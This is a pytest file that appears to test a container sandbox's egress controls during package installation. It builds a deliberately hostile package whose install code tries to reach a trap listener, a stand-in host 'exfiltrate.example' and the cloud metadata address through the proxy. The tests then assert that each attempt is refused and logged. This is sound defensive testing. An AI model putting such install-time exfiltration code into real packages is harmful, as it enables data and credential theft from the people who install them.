"""A package whose code tries to get out while it is installed: it reaches the index and nothing else, and is seen."""

from __future__ import annotations

import functools
import http.server
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from gateway.runtime.sandbox.errors import BuildError
from observability.events import Decision, Reason, Via
from registry.model.server import Server
from registry.model.sources import PackageSource
from registry.model.spec import plan_source
from tests.attack.test_build_container import Index, bridge_address, run, sdist, settings_for
from tests.gateway.runtime.real import Yard, yard

pytestmark = pytest.mark.docker

GET_OUT = """\
def tried(what):
    try:
        return str(what())
    except Exception as error:
        return type(error).__name__

def proxied(line):
    to = line.split()[1].removeprefix("http://").partition("/")[0]
    with socket.create_connection(("127.0.0.1", 3128), 5) as sock:
        sock.sendall(f"{line}\\r\\nHost: {to}\\r\\n\\r\\n".encode())
        return sock.recv(200).decode().split()[1]

def udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"taken", address)

host, port = "TRAP".split(":")
trap = (host, int(port))
return {
    "direct": tried(lambda: socket.create_connection(trap, 3)),
    "udp": tried(lambda: udp(trap)),
    "connect": tried(lambda: proxied(f"CONNECT exfiltrate.example:443 HTTP/1.1")),
    "plain": tried(lambda: proxied(f"GET http://{host}:{port}/ HTTP/1.1")),
    "name": tried(lambda: socket.getaddrinfo("lookup.example", 443)),
    "metadata": tried(lambda: proxied("GET http://169.254.169.254/latest/ HTTP/1.1")),
    "gateway": tried(lambda: proxied(f"CONNECT host.docker.internal:{port} HTTP/1.1")),
    "interfaces": sorted(os.listdir("/sys/class/net")),
    "routes": open("/proc/net/route").read().count("\\n") - 1,
    "proxy": os.environ.get("HTTPS_PROXY", ""),
}
"""
NEEDS = """\
with socket.create_connection(("127.0.0.1", 3128), 5) as sock:
    sock.sendall(b"CONNECT downloads.example:443 HTTP/1.1\\r\\nHost: downloads.example:443\\r\\n\\r\\n")
    if b" 200 " not in sock.recv(200):
        sys.exit("the download failed")
return {}
"""


@contextmanager
def trap() -> Iterator[tuple[str, list[str]]]:
    """A TCP and a UDP listener on this machine, its address, and what came."""
    came: list[str] = []
    host = bridge_address()
    with socket.create_server((host, 0)) as tcp, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        port = tcp.getsockname()[1]
        udp.bind((host, port))
        udp.settimeout(0.5)
        tcp.settimeout(0.5)
        yield f"{host}:{port}", came
        for name, receive in (("tcp", tcp.accept), ("udp", lambda: udp.recvfrom(100))):
            try:
                came.append(f"{name} {receive()[1]}")
            except TimeoutError:
                continue


@contextmanager
def index(root: Path, attacks: dict[str, str]) -> Iterator[str]:
    """A package index with one package for each attack, as containers reach it."""
    for name, attack in attacks.items():
        folder = root / "public" / "simple" / name
        folder.mkdir(parents=True)
        (folder / f"{name}-1.0.tar.gz").write_bytes(sdist(name, attack))
        (folder / "index.html").write_text(f'<a href="{name}-1.0.tar.gz">{name}-1.0.tar.gz</a>')
    server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), functools.partial(Index, directory=str(root)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"host.docker.internal:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def install(site: Yard, name: str, address: str, tmp_path: Path) -> str:
    """Installs a package of that index for a server, as a start does; its image."""
    server = Server.model_validate({"command": "uvx", "args": [name]})
    source = plan_source(server)
    assert isinstance(source, PackageSource)
    images = site.sandbox.images
    site.portal.call(images.prepared, source)
    images.settings = lambda: settings_for(f"http://{address}/public/simple", tmp_path)
    return str(site.portal.call(images.package, source, site.sandbox.walls.of("victim", ())))


def test_what_is_installed_reaches_the_index_and_nothing_else(tmp_path: Path) -> None:
    with yard() as site, trap() as (where, came):
        with index(tmp_path, {"getsout": GET_OUT.replace("TRAP", where)}) as address:
            site.up({"rogue": site.rogue()})
            image = install(site, "getsout", address, tmp_path)
        try:
            found = json.loads(site.portal.call(run, site.engine, image, "cat", "/opt/stockade/found.json"))
        finally:
            site.portal.call(site.engine.remove_image, image)
        assert found["interfaces"] == ["lo"]
        assert found["proxy"] == "http://127.0.0.1:3128"
        assert found["connect"] == found["plain"] == found["metadata"] == found["gateway"] == "403"
        assert found["direct"] in ("ConnectionRefusedError", "OSError", "ConnectionResetError", "TimeoutError")
        assert found["name"] == "gaierror"
        events = site.egress_events("build:victim")
        assert {event.host for event in events if event.decision is Decision.ALLOW} == {"host.docker.internal"}
        denied = {(event.host, event.reason) for event in events if event.decision is Decision.DENY}
        assert ("exfiltrate.example", Reason.HOST_NOT_ALLOWED) in denied
        assert "lookup.example" in {event.host for event in events if event.via is Via.DNS}
        assert "build:victim" not in site.sandbox.policies.extra
        assert not [name for name in site.containers() if "build" in name]
    assert came == []


def test_an_installation_that_needs_another_host_says_so_with_the_command_that_allows_it(tmp_path: Path) -> None:
    with yard() as site, index(tmp_path, {"needs": NEEDS}) as address:
        site.up({"rogue": site.rogue()})
        with pytest.raises(BuildError) as caught:
            install(site, "needs", address, tmp_path)
        said = str(caught.value)
        assert "It was refused downloads.example:443 (host_not_allowed)." in said
        assert "stockade egress allow build:victim downloads.example" in said
        assert "the download failed" in said
        assert not [name for name in site.containers() if "build" in name]
